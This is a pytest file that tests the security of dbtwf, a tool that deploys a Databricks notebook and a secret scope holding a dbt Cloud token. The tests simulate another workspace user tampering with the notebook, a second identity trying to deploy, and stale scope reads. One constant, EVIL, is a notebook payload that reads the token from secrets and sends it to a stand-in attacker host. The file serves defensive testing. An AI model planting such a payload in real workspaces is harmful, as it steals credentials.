"""The attacker's cases about where dbtwf keeps the notebook, the state record and the token:
another workspace user editing the notebook, a second identity applying the same
environment, a workspace that is not on the Premium plan. Real HTTP against the emulators;
the other user is a second principal of the Databricks emulator with its own token."""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from databricks.sdk import WorkspaceClient

from provision.databricks import Workspace
from provision.errors import RemoteError
from tests.conftest import DBT_CLOUD_TOKEN
from tests.provision_helpers import configured_cli, make_workspace, set_notebook_path

DBT_JOB = 42
MALLORY = "mallory@example.com"
MALLORY_TOKEN = "dapi-mallory"
EVIL = "# Databricks notebook source\nsend(dbutils.secrets.get('dbtwf-dev', 'dbt-cloud-api-token'), 'https://evil.invalid')\n"


@pytest.fixture
def invoke(
    tmp_path: Path, databricks: Any, dbt_cloud: Any, monkeypatch: pytest.MonkeyPatch
) -> Callable[..., Any]:
    dbt_cloud.add_job(DBT_JOB)
    return configured_cli(tmp_path, monkeypatch, databricks.url, dbt_cloud.url, DBT_JOB)


@pytest.fixture
def mallory(databricks: Any) -> Workspace:
    """Another ordinary user of the same workspace."""
    databricks.add_user(MALLORY_TOKEN, MALLORY)
    return Workspace(WorkspaceClient(host=databricks.url, token=MALLORY_TOKEN))


def test_under_shared_another_user_rewrites_the_notebook_and_doctor_fails(
    invoke: Callable[..., Any], databricks: Any, mallory: Workspace, tmp_path: Path
) -> None:
    shared = "/Shared/dbtwf/dev/run_dbt_cloud_job"
    set_notebook_path(tmp_path, shared)
    assert invoke("apply", "--yes").exit_code == 0
    # What the old default allowed: any user replaces the code that reads the token, and the
    # state record destroy trusts.
    mallory.import_notebook(shared, EVIL, overwrite=True)
    mallory.write_file("/Shared/dbtwf/dev/.dbtwf-state-dev.json", b'{"environment": "dev"}', overwrite=True)
    assert b"evil.invalid" in (databricks.workspace_file(shared) or b"")
    code, checks = _doctor(invoke)
    assert code == 1
    assert checks["notebook location"]["status"] == "fail"
    assert "every workspace user can edit" in checks["notebook location"]["detail"]


def test_in_the_home_folder_another_user_can_change_nothing(
    invoke: Callable[..., Any], databricks: Any, mallory: Workspace
) -> None:
    assert invoke("apply", "--yes").exit_code == 0
    folder = f"/Users/{databricks.user_name}/.dbtwf/dev"
    notebook = f"{folder}/run_dbt_cloud_job"
    uploaded = databricks.workspace_file(notebook)
    state = databricks.workspace_file(f"{folder}/.dbtwf-state-dev.json")
    attempts: list[Callable[[], object]] = [
        lambda: mallory.import_notebook(notebook, EVIL, overwrite=True),
        lambda: mallory.write_file(f"{folder}/.dbtwf-state-dev.json", b"{}", overwrite=True),
        lambda: mallory.write_file(f"{folder}/.dbtwf-lock-dev.json", b"{}", overwrite=False),
        lambda: mallory.delete(f"{folder}/.dbtwf-state-dev.json"),
        lambda: mallory.export_source(notebook),
    ]
    for attempt in attempts:
        with pytest.raises(RemoteError, match="permission denied"):
            attempt()
    assert databricks.workspace_file(notebook) == uploaded
    assert databricks.workspace_file(f"{folder}/.dbtwf-state-dev.json") == state
    code, checks = _doctor(invoke)
    assert code == 0, checks
    assert checks["notebook location"]["status"] == "ok"


def _doctor(invoke: Callable[..., Any]) -> tuple[int, dict[str, dict[str, Any]]]:
    result = invoke("doctor", "--json")
    assert DBT_CLOUD_TOKEN not in result.output
    return result.exit_code, {c["name"]: c for c in json.loads(result.stdout)["checks"]}


def test_the_job_runs_the_notebook_in_the_home_folder(
    invoke: Callable[..., Any], databricks: Any, dbt_cloud: Any
) -> None:
    # The job runs as its creator, the deployer, who can read its own home folder.
    assert invoke("apply", "--yes").exit_code == 0
    result = invoke("run")
    assert result.exit_code == 0, result.output
    assert len(dbt_cloud.runs_of(DBT_JOB)) == 1
    assert make_workspace(databricks).current_user_name() == databricks.user_name


def add_settings(tmp_path: Path, *lines: str) -> None:
    """Lines for [environments.dev] of the test's dbtwf.toml (the table is made if missing)."""
    config = tmp_path / "dbtwf.toml"
    text = config.read_text()
    if "[environments.dev]\n" not in text:
        text = text.replace(
            "[environments.dev.dbt_jobs]", "[environments.dev]\n\n[environments.dev.dbt_jobs]"
        )
    config.write_text(
        text.replace("[environments.dev]\n", "[environments.dev]\n" + "".join(f"{line}\n" for line in lines)),
        encoding="utf-8",
    )


def replace_setting(tmp_path: Path, old: str, new: str) -> None:
    config = tmp_path / "dbtwf.toml"
    config.write_text(config.read_text().replace(old, new), encoding="utf-8")


# -- a second identity ---------------------------------------------------------------------------


def test_a_second_identity_finds_the_deployment_and_refuses(
    invoke: Callable[..., Any], databricks: Any, mallory: Workspace, monkeypatch: pytest.MonkeyPatch
) -> None:
    assert invoke("apply", "--yes").exit_code == 0
    first = f"/Users/{databricks.user_name}/.dbtwf/dev/run_dbt_cloud_job"
    (job_id,) = databricks.jobs
    monkeypatch.setenv("DATABRICKS_TOKEN", MALLORY_TOKEN)
    databricks.reset_log()
    for command in (["plan"], ["apply", "--yes"], ["destroy", "--yes"]):
        result = invoke(*command)
        assert result.exit_code == 1, (command, result.output)
        assert "already deployed" in result.output and first in result.output
        assert f"workflow {job_id}" in result.output and f"created by {databricks.user_name}" in result.output
        assert f"run dbtwf as {databricks.user_name}" in result.output
        assert "notebook_path" in result.output and "Traceback" not in result.output
    doctor = invoke("doctor", "--json")
    workflow = next(c for c in json.loads(doctor.stdout)["checks"] if c["name"] == "workflow")
    assert workflow["status"] == "fail" and "already deployed" in workflow["detail"]
    assert f"run dbtwf as {databricks.user_name}" in workflow["fix"]
    assert databricks.writes() == []  # no second scope, notebook, workflow; nothing deleted
    assert list(databricks.jobs) == [job_id]
    assert databricks.workspace_file(f"/Users/{MALLORY}/.dbtwf/dev/run_dbt_cloud_job") is None


# -- plan and apply say who can edit or read ---------------------------------------------------------


def test_plan_and_apply_warn_about_a_notebook_every_user_can_edit(
    invoke: Callable[..., Any], databricks: Any, tmp_path: Path
) -> None:
    quiet = invoke("plan")
    assert quiet.exit_code == 0 and "warning:" not in quiet.output  # the default: the home folder
    add_settings(tmp_path, 'notebook_path = "/Shared/dbtwf/dev/run_dbt_cloud_job"')
    warning = "warning: every workspace user can edit /Shared/dbtwf/dev/run_dbt_cloud_job"
    for command in (["plan"], ["apply", "--yes"], ["apply", "--yes"]):  # the last one: up to date
        result = invoke(*command)
        assert result.exit_code == 0, result.output
        assert warning in result.stderr, (command, result.output)
        assert result.stderr.count("every workspace user can edit") == 1, result.stderr  # said once
        assert "~/.dbtwf/dev/run_dbt_cloud_job" in result.stderr
    as_json = json.loads(invoke("plan", "--json").stdout)["changes"]
    assert [c["name"] for c in as_json if c["resource"] == "warning"] == [
        "/Shared/dbtwf/dev/run_dbt_cloud_job"
    ]


def test_a_workspace_without_premium_is_said_plainly(invoke: Callable[..., Any], databricks: Any) -> None:
    databricks.premium_tier = False
    applied = invoke("apply", "--yes")
    assert applied.exit_code == 0, applied.output
    assert "every workspace user can read the dbt Cloud token" in applied.stderr  # learnt at scopes/create
    assert "not on the Premium plan" in applied.stderr  # the notebook: no ACLs at all
    planned = invoke("plan")
    assert "warning: every workspace user can read the dbt Cloud token" in planned.stderr
    assert "group users has MANAGE on secret scope 'dbtwf-dev'" in planned.stderr
    assert DBT_CLOUD_TOKEN not in applied.output + planned.output


# -- scope readers: dbtwf takes back only what it granted ---------------------------------------------


def test_readers_leaving_scope_readers_lose_only_the_read_dbtwf_granted(
    invoke: Callable[..., Any], databricks: Any, tmp_path: Path
) -> None:
    ws = make_workspace(databricks)

    def acls() -> dict[str, str]:
        return {a["principal"]: a["permission"] for a in ws.list_acls("dbtwf-dev")}

    add_settings(tmp_path, 'scope_readers = ["analysts", "auditors"]')
    assert invoke("apply", "--yes").exit_code == 0
    ws.put_acl("dbtwf-dev", "ops", "READ")  # by hand: not dbtwf's
    replace_setting(tmp_path, '["analysts", "auditors"]', '["analysts", "auditors", "ops"]')
    assert invoke("apply", "--yes").exit_code == 0  # ops already reads: nothing granted, nothing recorded
    ws.put_acl("dbtwf-dev", "analysts", "WRITE")  # raised by hand: not the READ dbtwf granted any more
    replace_setting(tmp_path, '["analysts", "auditors", "ops"]', "[]")

    planned = json.loads(invoke("plan", "--json").stdout)["changes"]
    revoked = [c["name"] for c in planned if c["resource"] == "scope-acl" and c["action"] == "delete"]
    assert revoked == ["dbtwf-dev:auditors"]
    with databricks.recording() as during:
        assert invoke("apply", "--yes").exit_code == 0
    assert [r.json() for r in during if r.path.endswith("/secrets/acls/delete")] == [
        {"scope": "dbtwf-dev", "principal": "auditors"}
    ]
    assert acls() == {databricks.user_name: "MANAGE", "analysts": "WRITE", "ops": "READ"}
    state = json.loads(
        databricks.workspace_file(f"/Users/{databricks.user_name}/.dbtwf/dev/.dbtwf-state-dev.json")
    )
    assert "auditors" not in state["granted_readers"] and "ops" not in state["granted_readers"]
    assert invoke("plan").stdout.count("nothing to change") == 1


# -- the workflow runs as someone else --------------------------------------------------------------


def test_a_workflow_run_as_a_service_principal_gets_read_on_the_notebook(
    invoke: Callable[..., Any], databricks: Any, dbt_cloud: Any, tmp_path: Path
) -> None:
    add_settings(tmp_path, 'scope_readers = ["sp-etl-0001"]')  # it reads the token when it runs
    assert invoke("apply", "--yes").exit_code == 0
    (job_id,) = databricks.jobs
    make_workspace(databricks).update_job(job_id, {"run_as": {"service_principal_name": "sp-etl-0001"}})
    denied = invoke("run")
    assert denied.exit_code == 1 and "lacks the required permissions" in denied.output

    planned = json.loads(invoke("plan", "--json").stdout)["changes"]
    notebook = f"/Users/{databricks.user_name}/.dbtwf/dev/run_dbt_cloud_job"
    assert [(c["resource"], c["name"], c["action"]) for c in planned if c["action"] != "no-op"] == [
        ("notebook-acl", f"{notebook}:service-principal:sp-etl-0001", "create"),
        ("state", f"/Users/{databricks.user_name}/.dbtwf/dev/.dbtwf-state-dev.json", "update"),
    ]
    assert invoke("apply", "--yes").exit_code == 0
    assert databricks.object_permissions(notebook)[("service_principal_name", "sp-etl-0001")] == "CAN_READ"
    assert databricks.effective_level(notebook, "users") is None  # nobody else got anything
    ran = invoke("run")
    assert ran.exit_code == 0, ran.output
    assert len(dbt_cloud.runs_of(DBT_JOB)) == 1
    assert "nothing to change" in invoke("plan").stdout


def test_add_task_lets_a_foreign_workflows_identity_read_the_notebook(
    invoke: Callable[..., Any], databricks: Any, dbt_cloud: Any, mallory: Workspace, tmp_path: Path
) -> None:
    # Mallory's workflow runs as Mallory; the runner notebook is in the deployer's home.
    add_settings(tmp_path, f'scope_readers = ["{MALLORY}"]')
    job_id = mallory.create_job(
        {"name": "etl", "tasks": [{"task_key": "ingest", "spark_python_task": {"python_file": "/x.py"}}]}
    )
    result = invoke("add-task", "--workflow", str(job_id), "--dbt-job", str(DBT_JOB), "--yes")
    assert result.exit_code == 0, result.output
    notebook = f"/Users/{databricks.user_name}/.dbtwf/dev/run_dbt_cloud_job"
    assert f"granted {MALLORY} (the workflow runs as it) CAN_READ on {notebook}" in result.output
    assert databricks.effective_level(notebook, MALLORY) == "CAN_READ"  # read, not edit
    run = databricks.wait_for_run(mallory.run_now(job_id))
    assert run["state"]["result_state"] == "SUCCESS", run["state"]
    assert len(dbt_cloud.runs_of(DBT_JOB)) == 1


def test_destroy_takes_back_the_read_it_granted_on_a_scope_that_stays(
    invoke: Callable[..., Any], databricks: Any, tmp_path: Path
) -> None:
    ws = make_workspace(databricks)
    ws.create_scope("dbtwf-dev")  # the team's scope: not dbtwf's to delete
    ws.put_acl("dbtwf-dev", "ops", "READ")
    add_settings(tmp_path, 'scope_readers = ["analysts", "ops"]')
    assert invoke("apply", "--yes").exit_code == 0
    result = invoke("destroy", "--yes")
    assert result.exit_code == 0, result.output
    assert {a["principal"]: a["permission"] for a in ws.list_acls("dbtwf-dev")} == {
        databricks.user_name: "MANAGE",
        "ops": "READ",
    }


def test_doctor_flags_a_read_dbtwf_granted_to_someone_who_left_scope_readers(
    invoke: Callable[..., Any], databricks: Any, tmp_path: Path
) -> None:
    add_settings(tmp_path, 'scope_readers = ["auditors"]')
    assert invoke("apply", "--yes").exit_code == 0
    replace_setting(tmp_path, '["auditors"]', "[]")
    result = invoke("doctor", "--json")
    readers = next(c for c in json.loads(result.stdout)["checks"] if c["name"] == "scope readers")
    assert result.exit_code == 1 and readers["status"] == "fail"
    assert "auditors still read 'dbtwf-dev'" in readers["detail"] and "take that READ back" in readers["fix"]
